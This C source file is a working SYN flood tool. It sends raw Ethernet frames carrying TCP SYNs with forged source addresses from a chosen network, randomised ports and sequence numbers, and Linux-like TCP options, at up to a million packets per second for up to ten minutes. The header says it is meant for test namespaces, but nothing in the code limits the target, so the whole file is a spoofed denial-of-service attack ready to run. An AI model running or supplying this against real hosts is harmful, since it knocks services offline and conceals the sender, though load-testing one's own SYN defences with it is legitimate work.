/*
 * A flood of SYNs with forged sources, for namespaces that a test made: bounded in rate, time and number.
 *
 *   syn_flood INTERFACE DESTINATION-MAC DESTINATION PORT RATE SECONDS NETWORK PREFIX-LENGTH
 *
 * Sources are drawn from NETWORK/PREFIX-LENGTH (IPv4), with any port and sequence number, and options as Linux sends
 * them. Prints how many left.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH       64
#define RATE_MAX    1000000
#define SECONDS_MAX 600
#define FRAME       (14 + 20 + 40)

static uint64_t state = UINT64_C(0x9e3779b97f4a7c15);

static uint32_t any(void)
{
	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return state >> 16;
}

static uint32_t sum16(const uint8_t *p, int n, uint32_t sum)
{
	for (int i = 0; i < n; i += 2)
		sum += p[i] << 8 | p[i + 1];
	return sum;
}

static void put16(uint8_t *p, uint32_t v)
{
	p[0] = v >> 8;
	p[1] = v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v);
}

static void finish(uint8_t *field, uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	put16(field, ~sum);
}

struct target {
	uint8_t src_mac[6], dst_mac[6];
	uint32_t dst, net, mask;
	uint16_t port;
};

static void build(uint8_t *f, const struct target *t)
{
	/* MSS 1460, SACK permitted, timestamps, NOP, window scale 7 */
	static const uint8_t options[20] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, [16] = 1, 3, 3, 7};
	uint8_t *ip = f + 14, *tcp = ip + 20;
	memset(f, 0, FRAME);
	memcpy(f, t->dst_mac, 6);
	memcpy(f + 6, t->src_mac, 6);
	put16(f + 12, ETHERTYPE_IP);
	ip[0] = 0x45;
	put16(ip + 2, 60);
	put16(ip + 4, any());
	ip[6] = 0x40;
	ip[8] = 64;
	ip[9] = IPPROTO_TCP;
	put32(ip + 12, t->net | (any() & ~t->mask));
	put32(ip + 16, t->dst);
	finish(ip + 10, sum16(ip, 20, 0));
	put16(tcp, 1024 + any() % 60000);
	put16(tcp + 2, t->port);
	put32(tcp + 4, any());
	tcp[12] = 10 << 4;
	tcp[13] = 2;
	put16(tcp + 14, 64240);
	memcpy(tcp + 20, options, sizeof options);
	put32(tcp + 28, any());
	finish(tcp + 16, sum16(tcp, 40, sum16(ip + 12, 8, IPPROTO_TCP + 40)));
}

static double seconds(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static int open_on(const char *name, uint8_t mac[6])
{
	int fd = socket(AF_PACKET, SOCK_RAW, 0);
	struct ifreq req = {0};
	snprintf(req.ifr_name, sizeof req.ifr_name, "%s", name);
	if (fd < 0 || ioctl(fd, SIOCGIFHWADDR, &req))
		return -1;
	memcpy(mac, req.ifr_hwaddr.sa_data, 6);
	struct sockaddr_ll sll = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(name)};
	return bind(fd, (struct sockaddr *)&sll, sizeof sll) ? -1 : fd;
}

static int read_target(char **argv, struct target *t)
{
	struct in_addr dst, net;
	unsigned m[6], bits = atoi(argv[8]);
	if (sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6 || inet_pton(AF_INET, argv[3], &dst) != 1 ||
	    inet_pton(AF_INET, argv[7], &net) != 1 || bits < 1 || bits > 32)
		return -1;
	for (int i = 0; i < 6; i++)
		t->dst_mac[i] = m[i];
	t->dst = ntohl(dst.s_addr);
	t->mask = UINT32_MAX << (32 - bits);
	t->net = ntohl(net.s_addr) & t->mask;
	t->port = atoi(argv[4]);
	return 0;
}

static volatile sig_atomic_t over;

static void end(int sig)
{
	over = sig;
}

static long flood(int fd, const struct target *t, long rate, double for_seconds)
{
	static uint8_t frames[BATCH][FRAME];
	struct iovec iov[BATCH];
	struct mmsghdr msgs[BATCH];
	double start = seconds(), now = start;
	long sent = 0;
	memset(msgs, 0, sizeof msgs);
	for (int i = 0; i < BATCH; i++) {
		iov[i] = (struct iovec){frames[i], FRAME};
		msgs[i].msg_hdr = (struct msghdr){.msg_iov = &iov[i], .msg_iovlen = 1};
	}
	while (now - start < for_seconds && !over) {
		long due = (long)((now - start) * rate) - sent;
		int n = due < BATCH ? due : BATCH;
		if (n > 0) {
			for (int i = 0; i < n; i++)
				build(frames[i], t);
			int r = sendmmsg(fd, msgs, n, 0);
			sent += r > 0 ? r : 0;
		} else {
			struct timespec nap = {.tv_nsec = 200000};
			nanosleep(&nap, NULL);
		}
		now = seconds();
	}
	return sent;
}

int main(int argc, char **argv)
{
	struct target t;
	if (argc != 9 || read_target(argv, &t)) {
		fprintf(stderr, "usage: %s INTERFACE MAC ADDRESS PORT RATE SECONDS NETWORK PREFIX-LENGTH\n", argv[0]);
		return 2;
	}
	long rate = atol(argv[5]);
	double for_seconds = atof(argv[6]);
	if (rate < 1 || rate > RATE_MAX || for_seconds <= 0 || for_seconds > SECONDS_MAX)
		return 2;
	int fd = open_on(argv[1], t.src_mac);
	if (fd < 0) {
		perror(argv[1]);
		return 1;
	}
	signal(SIGTERM, end); /* it tells what it sent all the same */
	printf("%ld\n", flood(fd, &t, rate, for_seconds));
	return 0;
}
